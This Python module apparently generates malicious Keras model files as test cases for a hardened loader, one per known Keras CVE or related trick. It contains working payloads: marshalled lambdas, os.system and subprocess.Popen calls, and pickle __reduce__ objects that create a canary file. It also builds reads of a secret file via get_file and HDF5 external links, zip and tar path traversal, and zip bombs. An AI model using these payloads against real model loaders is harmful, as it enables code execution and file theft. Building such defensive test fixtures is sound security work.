"""Writes model files that try to do harm, one for each known way.

Each would call something that leaves the file `CANARY` behind, read the file
`SECRET`, write outside its folder, or take memory without end. What is public
about the CVEs is in the advisories of keras-team/keras and in Keras's history;
the payloads here are our own.
"""

import base64
import copy
import io
import json
import marshal
import os
import pathlib
import pickle
import struct
import tarfile
import tempfile
import zipfile

import h5py
import keras
import numpy as np

CANARY, SECRET = "canary", "secret.txt"

CASES = {}


def case(name):
    """Register a writer: it takes the path, and the folder of the canary."""

    def register(write):
        CASES[name] = write
        return write

    return register


def base_model():
    inputs = keras.Input((4, 4, 3), name="image")
    x = keras.layers.GlobalAveragePooling2D(name="pool")(inputs)
    outputs = keras.layers.Dense(3, name="dense")(x)
    return keras.Model(inputs, outputs, name="net")


def base_members():
    """The members of the archive of a good model, by name."""
    with tempfile.TemporaryDirectory() as folder:
        base_model().save(path := pathlib.Path(folder, "model.keras"))
        with zipfile.ZipFile(path) as archive:
            return {name: archive.read(name) for name in archive.namelist()}


def write_zip(path, members, **options):
    with zipfile.ZipFile(path, "w", **options) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def with_config(path, change, **members):
    """Write the good model with another configuration."""
    base = {**base_members(), **members}
    config = json.loads(base["config.json"])
    changed = change(config)
    text = changed if isinstance(changed, bytes) else json.dumps(config)
    write_zip(path, {**base, "config.json": text})


def with_layer(path, module, class_name, config, **more):
    """Write the good model with another class as its last layer."""

    def change(whole):
        layer = whole["config"]["layers"][-1]
        name = {"name": "dense", **config}
        layer.update(module=module, class_name=class_name, config=name, **more)

    with_config(path, change)


def with_weights(path, change):
    """Write the good model with another HDF5 file."""
    members = base_members()
    buffer = io.BytesIO(members["model.weights.h5"])
    with h5py.File(buffer, "r+") as file:
        change(file, "layers/dense/vars")
    write_zip(path, {**members, "model.weights.h5": buffer.getvalue()})


def code(folder):
    """A function's code as Keras 3 and older put it into a file."""
    source = f"lambda x: open({str(folder / CANARY)!r}, 'w').close() or x"
    body = eval(source).__code__
    return base64.b64encode(marshal.dumps(body)).decode("ascii")


def a_lambda(folder):
    parts = {"code": code(folder), "defaults": None, "closure": None}
    value = list(parts.values())  # outside a Lambda
    return {"class_name": "__lambda__", "config": {**parts, "value": value}}


def a_function(module, name):
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
    }


class Opens:
    """Its pickle opens the canary."""

    def __init__(self, folder):
        self.path = str(folder / CANARY)

    def __reduce__(self):
        return open, (self.path, "w")


@case("CVE-2024-3660: code in a Lambda")
def _(path, folder):
    with_layer(path, "keras.layers", "Lambda", {"function": a_lambda(folder)})


@case("CVE-2025-1550: any function of any module")
def _(path, folder):
    touch = {"class_name": "Lambda", "module": "keras.layers"}
    function = a_function("os", "system")
    node = {"args": [f"touch {folder / CANARY}"], "kwargs": {}}
    with_layer(
        path, config={"function": function}, inbound_nodes=[node], **touch
    )


@case("CVE-2025-1550: a class of any module")
def _(path, folder):
    config = {"args": f"touch {folder / CANARY}"}
    with_layer(path, "subprocess", "Popen", config)


@case("CVE-2025-8747: get_file through a Lambda")
def _(path, folder):
    arguments = {
        "origin": f"file://{folder / SECRET}",
        "cache_dir": str(folder),
        "cache_subdir": ".",
        "fname": CANARY,
    }
    function = a_function("keras.utils", "get_file")
    config = {"function": function, "arguments": arguments}
    with_layer(path, "keras.layers", "Lambda", config)


@case("CVE-2025-9906: safe mode turned off by the file")
def _(path, folder):
    function = a_function("keras.config", "enable_unsafe_deserialization")
    with_layer(path, "keras.layers", "Lambda", {"function": function})


def legacy(path, layer):
    base_model().save(whole := path.with_suffix(".h5"))
    with h5py.File(whole, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        config["config"]["layers"][-1].update(layer)
        file.attrs["model_config"] = json.dumps(config)
    os.replace(whole, path)


@case("CVE-2025-9905: code in a legacy HDF5 file")
def _(path, folder):
    old = [code(folder), None, None]
    config = {"name": "dense", "function": old, "function_type": "lambda"}
    legacy(path, {"class_name": "Lambda", "config": config})


@case("CVE-2025-9905: a class of any module in a legacy HDF5 file")
def _(path, folder):
    config = {"args": f"touch {folder / CANARY}"}
    legacy(path, {"class_name": "subprocess>Popen", "config": config})


@case("CVE-2025-49655: a pickle in a TorchModuleWrapper")
def _(path, folder):
    data = base64.b64encode(pickle.dumps(Opens(folder))).decode("ascii")
    config = {"module": {"class_name": "__bytes__", "config": {"value": data}}}
    with_layer(path, "keras.layers", "TorchModuleWrapper", config)


def vocabulary(layer):
    def write(path, folder):
        config = {"vocabulary": str(folder / SECRET), "num_oov_indices": 1}
        with_layer(path, "keras.layers", layer, config)

    return write


for _layer in ("StringLookup", "IntegerLookup", "TextVectorization"):
    case(f"CVE-2025-12058: a vocabulary file of {_layer}")(vocabulary(_layer))


@case("CVE-2025-12058: weights of a vocabulary in a file")
def _(path, folder):
    config = {"vocabulary": ["a"], "idf_weights": str(folder / SECRET)}
    with_layer(path, "keras.layers", "StringLookup", config)


@case("CVE-2025-12060: get_file unpacks a tar archive outside its folder")
def _(path, folder):
    with tarfile.open(folder / "a.tar", "w") as archive:
        archive.addfile(tarfile.TarInfo(f"../{folder.name}/{CANARY}"))
    function = a_function("keras.utils", "get_file")
    arguments = {"origin": f"file://{folder / 'a.tar'}", "extract": True}
    config = {"activation": function, "units": 3, "arguments": arguments}
    with_layer(path, "keras.layers", "Dense", config)


@case("CVE-2026-0897: an array far larger than its file")
def _(path, folder):
    def change(file, group):
        del file[group]["0"]
        file[group].create_dataset(
            "0", (2**20, 2**16), "float32", chunks=(2**10, 2**10), fillvalue=1
        )

    with_weights(path, change)


@case("CVE-2026-0897: the same, compressed")
def _(path, folder):
    def change(file, group):
        del file[group]["0"]
        file[group].create_dataset(
            "0", (2**20, 2**16), "float32", compression="gzip"
        )

    with_weights(path, change)


@case("CVE-2026-1462: a SavedModel of a TFSMLayer")
def _(path, folder):
    config = {"filepath": str(folder), "call_endpoint": "serve"}
    with_layer(path, "keras.layers", "TFSMLayer", config)


def external(file, group, folder):
    del file[group]["1"]
    target = [(str(folder / SECRET), 0, 12)]
    file[group].create_dataset("1", (3,), "float32", external=target)


@case("CVE-2026-1669: an array in another file")
def _(path, folder):
    with_weights(path, lambda file, group: external(file, group, folder))


@case("CVE-2026-1669: the same in a legacy HDF5 file")
def _(path, folder):
    legacy(path, {})
    with h5py.File(path, "r+") as file:
        group = file["model_weights/dense/dense"]
        group["1"] = group.pop("bias")[()] if hasattr(group, "pop") else 0.0
        external(group, ".", folder)


@case("CVE-2026-12479: a layer's name that leaves the folder")
def _(path, folder):
    name = f"../../{folder.name}/{CANARY}"
    with_layer(path, "keras.layers", "TextVectorization", {"name": name})


def nested(module, class_name, key):
    """A Lambda inside another layer, or inside what takes layers."""

    def write(path, folder):
        inner = {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {"function": a_lambda(folder)},
            "registered_name": None,
        }
        value = [inner] if key in ("layers", "cells") else inner
        with_layer(path, module, class_name, {key: value})

    return write


for _class, _key in {
    "TimeDistributed": "layer",
    "Bidirectional": "layer",
    "RNN": "cell",
    "StackedRNNCells": "cells",
    "Pipeline": "layers",
    "SpectralNormalization": "layer",
}.items():
    case(f"CVE-2026-12481: a Lambda inside {_class}")(
        nested("keras.layers", _class, _key)
    )


@case("CVE-2026-12481: a Lambda in what a layer is called with")
def _(path, folder):
    def change(config):
        [node] = config["config"]["layers"][-1]["inbound_nodes"]
        node["kwargs"]["mask"] = {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {"function": a_lambda(folder)},
        }

    with_config(path, change)


@case("code as an activation")
def _(path, folder):
    config = {"units": 3, "activation": a_lambda(folder)}
    with_layer(path, "keras.layers", "Dense", config)


@case("code in what a layer is built with")
def _(path, folder):
    build = {"input_shape": a_lambda(folder)}
    with_layer(path, "keras.layers", "Dense", {"units": 3}, build_config=build)


@case("a loader as an initializer")
def _(path, folder):
    config = {"units": 3, "kernel_initializer": a_function("numpy", "load")}
    with_layer(path, "keras.layers", "Dense", config)


@case("a class registered under the name of a plain one")
def _(path, folder):
    registered = {"registered_name": "Custom>Opens"}
    with_layer(path, "keras.layers", "Dense", {"units": 3}, **registered)


@keras.saving.register_keras_serializable("hostile")
def touch(x):
    """What another library may have registered."""
    pathlib.Path(CANARY).touch()
    return x


@keras.saving.register_keras_serializable("hostile")
class Reads(keras.layers.Layer):
    """As tokenizers do, it reads the file that its config names."""

    def __init__(self, file, **kwargs):
        super().__init__(**kwargs)
        self.text = pathlib.Path(file).read_text()

    def call(self, x):
        return x


@case("a class that another library has registered")
def _(path, folder):
    registered = {"registered_name": "hostile>Reads"}
    config = {"file": str(folder / SECRET)}
    with_layer(path, "hostile_keras", "Reads", config, **registered)


for _what, _activation in {
    "in a string": "hostile>touch",
    "by its whole name": a_function("hostile_keras", "hostile>touch"),
    "by its bare name": a_function("builtins", "touch"),
}.items():

    def _write(path, folder, activation=_activation):
        config = {"units": 3, "activation": activation}
        with_layer(path, "keras.layers", "Dense", config)

    case(f"a function that another library has registered, {_what}")(_write)


@case("a type of TensorFlow")
def _(path, folder):
    def change(config):
        config["config"]["layers"][-1]["config"]["dtype"] = {
            "class_name": "__typespec__",
            "spec_name": "TensorSpec",
            "module": "tensorflow",
            "config": [[3], "float32"],
            "registered_name": None,
        }

    with_config(path, change)


for _name in ("JaxLayer", "FlaxLayer", "Layer", "Wrapper"):

    def _write(path, folder, name=_name):
        with_layer(path, "keras.layers", name, {})

    case(f"a layer that is not plain, {_name}")(_write)


@case("a module inside Keras that is no public name")
def _(path, folder):
    with_layer(path, "keras.src.layers.core.lambda_layer", "Lambda", {})


@case("an operation that runs while the file is loaded")
def _(path, folder):
    node = {"args": [[1.0], 10**11], "kwargs": {}}
    with_layer(path, "keras.src.ops.numpy", "Repeat", {}, inbound_nodes=[node])


@case("numbers of a gigantic type")
def _(path, folder):
    value = {"value": ["a"], "dtype": "U1000000000"}
    initial = {"class_name": "__numpy__", "config": value}
    config = {"units": 3, "bias_initializer": initial}
    with_layer(path, "keras.layers", "Dense", config)


@case("weights that the file does not have")
def _(path, folder):
    def change(config):
        config["config"]["layers"][-1]["config"]["units"] = 10**10

    with_config(path, change)


@case("a kernel of a million channels")
def _(path, folder):
    with_layer(
        path,
        "eca_keras.layers.eca",
        "ECA",
        {"kernel_size": 10**6 + 1},
        registered_name="eca_keras>ECA",
    )


@case("a detector for gigantic images")
def _(path, folder):
    def change(config):
        config.update(
            module="eca_keras.applications.detection.retinanet",
            class_name="RetinaNet",
            registered_name="eca_keras>RetinaNet",
            config={"input_shape": [10**6, 10**6, 3]},
        )

    with_config(path, change)


@case("a configuration nested without end")
def _(path, folder):
    deep = b'{"class_name": "Functional", "config": ' + b"[" * 100_000
    with_config(path, lambda config: deep + b"]" * 100_000 + b"}")


@case("a configuration with millions of values")
def _(path, folder):
    many = b'{"class_name": "Functional", "config": ['
    with_config(path, lambda config: many + b"{}," * 2_000_000 + b"{}]}")


@case("a configuration that is no model")
def _(path, folder):
    with_config(path, lambda config: b"[1, 2]")


@case("a configuration that is cut off")
def _(path, folder):
    with_config(path, lambda config: json.dumps(config).encode()[:-9])


def linked(kind):
    def write(path, folder):
        def change(file, group):
            del file[group]["1"]
            file[group]["1"] = {
                "hard": file[group]["0"],
                "soft": h5py.SoftLink(f"/{group}/0"),
                "external": h5py.ExternalLink(str(folder / SECRET), "/x"),
            }[kind]

        with_weights(path, change)

    return write


for _kind in ("hard", "soft", "external"):
    case(f"{_kind} links in HDF5")(linked(_kind))


@case("a group in HDF5 that holds itself")
def _(path, folder):
    def change(file, group):
        file[group]["self"] = file[group]

    with_weights(path, change)


@case("a virtual array in HDF5")
def _(path, folder):
    def change(file, group):
        del file[group]["1"]
        layout = h5py.VirtualLayout((3,), "float32")
        layout[:] = h5py.VirtualSource(str(folder / SECRET), "x", (3,))
        file[group].create_virtual_dataset("1", layout)

    with_weights(path, change)


def array_of(dtype, **options):
    def write(path, folder):
        def change(file, group):
            del file[group]["1"]
            file[group].create_dataset("1", (3,), dtype, **options)

        with_weights(path, change)

    return write


for _what, _dtype in {
    "records": [("a", "f4"), ("b", "i4")],
    "strings of any length": h5py.string_dtype(),
    "references": h5py.ref_dtype,
    "arrays": np.dtype((np.float32, (2,))),
    "opaque bytes": "V1000",
}.items():
    case(f"an array of {_what} in HDF5")(array_of(_dtype))


@case("a chunk in HDF5 far larger than its array")
def _(path, folder):
    options = {"chunks": (2**28,), "maxshape": (None,)}
    array_of("float32", **options)(path, folder)


@case("groups in HDF5 nested without end")
def _(path, folder):
    with_weights(
        path, lambda file, group: file.create_group("/".join("a" * 2_000))
    )


@case("an attribute in HDF5 that is many strings")
def _(path, folder):
    def change(file, group):
        attrs = file[group].attrs
        attrs["name"] = ["a" * 60_000] * 3

    with_weights(path, change)


def archive(change):
    """A case that changes the members of the good archive."""

    def write(path, folder):
        write_zip(path, {**base_members(), **change(folder)})

    return write


for _name, _change in {
    "pickled weights of NumPy": lambda folder: {
        "model.weights.npz": pickle.dumps(Opens(folder))
    },
    "a member outside the folder": lambda folder: {
        f"assets/../../{CANARY}": "a"
    },
    "a member with an absolute path": lambda folder: {
        str(folder / CANARY): "a"
    },
    "a member with a path of Windows": lambda folder: {
        "assets\\..\\..\\canary": "a"
    },
    "a member on a drive": lambda folder: {"c:/canary": "a"},
    "a member that no model has": lambda folder: {"setup.py": "a"},
    "members by the thousand": lambda folder: {
        f"assets/{i}": "" for i in range(30_000)
    },
}.items():
    case(f"{_name}, in the zip archive")(archive(_change))


@case("a member inside another one, in the zip archive")
def _(path, folder):
    write_zip(path, {**base_members(), "assets/a": "a", "assets/a/b": "b"})


@case("pickled weights of NumPy alone")
def _(path, folder):
    members = base_members()
    del members["model.weights.h5"]
    buffer = io.BytesIO()
    np.savez(buffer, a=np.array([Opens(folder)], object), allow_pickle=True)
    write_zip(path, {**members, "model.weights.npz": buffer.getvalue()})


@case("a zip bomb")
def _(path, folder):
    members = {**base_members(), "assets/a": bytes(2**28)}
    write_zip(path, members, compression=zipfile.ZIP_DEFLATED)


@case("a zip bomb in the configuration")
def _(path, folder):
    members = {**base_members(), "config.json": b" " * 2**26}
    write_zip(path, members, compression=zipfile.ZIP_DEFLATED)


@case("another compression in the zip archive")
def _(path, folder):
    write_zip(path, base_members(), compression=zipfile.ZIP_LZMA)


def special(mode):
    def write(path, folder):
        write_zip(path, base_members())
        link = zipfile.ZipInfo("assets/a")
        link.external_attr = (mode | 0o777) << 16
        with zipfile.ZipFile(path, "a") as file:
            file.writestr(link, str(folder / SECRET))

    return write


case("a symbolic link in the zip archive")(special(0o120000))
case("a device in the zip archive")(special(0o020000))


@case("a member twice in the zip archive")
def _(path, folder):
    write_zip(path, {**base_members(), "config.jsom": "{}"})
    path.write_bytes(path.read_bytes().replace(b"config.jsom", b"config.json"))


@case("a member with a NUL in its name, in the zip archive")
def _(path, folder):
    write_zip(path, {**base_members(), "assets/a#/../canary": "a"})
    path.write_bytes(path.read_bytes().replace(b"a#/..", b"a\0/.."))


@case("an encrypted zip archive")
def _(path, folder):
    write_zip(path, base_members())
    data = bytearray(path.read_bytes())
    start = data.index(b"PK\x01\x02")
    flags = struct.unpack_from("<H", data, start + 8)[0]
    struct.pack_into("<H", data, start + 8, flags | 1)
    path.write_bytes(data)


@case("a zip archive that is cut off")
def _(path, folder):
    write_zip(path, base_members())
    path.write_bytes(path.read_bytes()[:-300])


@case("numbers that are not those of the zip archive's check sum")
def _(path, folder):
    members = base_members()
    write_zip(path, members)
    data = bytearray(path.read_bytes())
    at = data.index(members["model.weights.h5"][:64]) + 40
    data[at] ^= 255
    path.write_bytes(data)


@case("weights that are no HDF5")
def _(path, folder):
    write_zip(path, {**base_members(), "model.weights.h5": b"x" * 500})


@case("no weights")
def _(path, folder):
    members = copy.copy(base_members())
    del members["model.weights.h5"]
    write_zip(path, members)


@case("an empty file")
def _(path, folder):
    path.write_bytes(b"")


@case("a web page")
def _(path, folder):
    path.write_text("<!doctype html><title>Sign in</title>")
